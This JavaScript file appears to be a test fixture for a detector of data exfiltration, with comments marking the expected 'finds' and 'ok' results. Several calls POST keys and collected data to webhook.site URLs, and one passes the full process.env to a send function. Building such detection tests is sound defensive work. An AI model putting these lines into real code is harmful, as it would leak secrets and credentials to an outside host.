const { through, withAll, withKey, withVersion } = require('./read');
const { post } = require('./send');

withKey((error, key) => {
  // finds: exfiltration
  if (!error) fetch('https://webhook.site/2222', { method: 'POST', body: key });
});
withVersion((_, version) => {
  // ok: exfiltration
  fetch('https://updates.invalid/', { method: 'POST', body: version });
});
through((_, key) => {
  // finds: exfiltration
  fetch('https://webhook.site/5555', { method: 'POST', body: key });
});
function send(all) {
  // finds: exfiltration
  fetch('https://webhook.site/4444', { method: 'POST', body: all });
}
withAll(send);
post(() => JSON.stringify({ ...process.env }));
